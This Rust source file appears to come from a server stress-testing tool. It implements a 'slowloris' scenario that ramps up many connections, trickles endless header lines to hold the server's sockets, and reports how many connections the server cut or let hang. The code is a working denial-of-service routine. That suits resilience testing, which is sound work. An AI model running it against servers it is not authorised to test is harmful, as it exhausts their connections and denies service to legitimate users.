//! The `slowloris` scenario: many connections that send a request head a few bytes at a time and
//! never finish it, holding the server's sockets for as long as it lets them.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use crate::histogram::Histogram;
use crate::http;
use crate::target::Target;

/// A slowloris run.
#[derive(Debug, Clone)]
pub struct SlowlorisConfig {
    /// Server.
    pub target: Target,
    /// Connections to hold.
    pub connections: usize,
    /// How long to try.
    pub duration: Duration,
    /// Pause between header lines.
    pub interval: Duration,
    /// Connections opened per second.
    pub ramp: f64,
}

/// What happened to the slow connections.
#[derive(Debug, Default)]
pub struct SlowlorisStats {
    /// Connections opened.
    pub opened: AtomicU64,
    /// Could not connect.
    pub refused: AtomicU64,
    /// Closed by the server before the end.
    pub cut: AtomicU64,
    /// Still open at the end.
    pub held: AtomicU64,
    /// How long the server let a connection trickle, µs.
    pub time_to_cut: Histogram,
}

/// A summary.
#[derive(Debug, Clone, Serialize)]
pub struct SlowlorisReport {
    /// Connections opened.
    pub opened: u64,
    /// Could not connect.
    pub refused: u64,
    /// Cut by the server.
    pub cut: u64,
    /// Still open at the end.
    pub held: u64,
    /// Time until cut, ms.
    pub time_to_cut_ms: crate::Quantiles,
}

impl SlowlorisStats {
    /// Summarises the run.
    pub fn report(&self) -> SlowlorisReport {
        SlowlorisReport {
            opened: self.opened.load(Relaxed),
            refused: self.refused.load(Relaxed),
            cut: self.cut.load(Relaxed),
            held: self.held.load(Relaxed),
            time_to_cut_ms: crate::Quantiles::of(&self.time_to_cut),
        }
    }
}

async fn one(cfg: &SlowlorisConfig, stats: &SlowlorisStats, n: usize, end: Instant) {
    let Ok(mut stream) = http::connect(&cfg.target, cfg.target.source_ip(n)).await else {
        stats.refused.fetch_add(1, Relaxed);
        return;
    };
    stats.opened.fetch_add(1, Relaxed);
    let opened = Instant::now();
    let mut line = 0u64;
    let mut first =
        format!("GET /api/v1/spaces HTTP/1.1\r\nHost: {}\r\n", cfg.target.addr).into_bytes();
    let mut probe = [0u8; 256];
    loop {
        let chunk = if first.is_empty() {
            format!("X-Slow-{line}: z\r\n").into_bytes()
        } else {
            std::mem::take(&mut first)
        };
        line += 1;
        if stream.write_all(&chunk).await.is_err() {
            break;
        }
        let wait = (Instant::now() + cfg.interval).min(end);
        match tokio::time::timeout_at(wait, stream.read(&mut probe)).await {
            // The server answered (an error) or closed: cut.
            Ok(_) => break,
            Err(_) if Instant::now() >= end => {
                stats.held.fetch_add(1, Relaxed);
                return;
            }
            Err(_) => {}
        }
    }
    stats.cut.fetch_add(1, Relaxed);
    stats.time_to_cut.record(opened.elapsed().as_micros() as u64);
}

/// Opens the connections (ramped) and trickles until the end.
pub async fn run(cfg: Arc<SlowlorisConfig>, stats: Arc<SlowlorisStats>) {
    let start = Instant::now();
    let end = start + cfg.duration;
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..cfg.connections {
        tokio::time::sleep_until(start + Duration::from_secs_f64(n as f64 / cfg.ramp.max(1.0)))
            .await;
        if Instant::now() >= end {
            break;
        }
        let (cfg, stats) = (cfg.clone(), stats.clone());
        tasks.spawn(async move { one(&cfg, &stats, n, end).await });
    }
    while tasks.join_next().await.is_some() {}
}
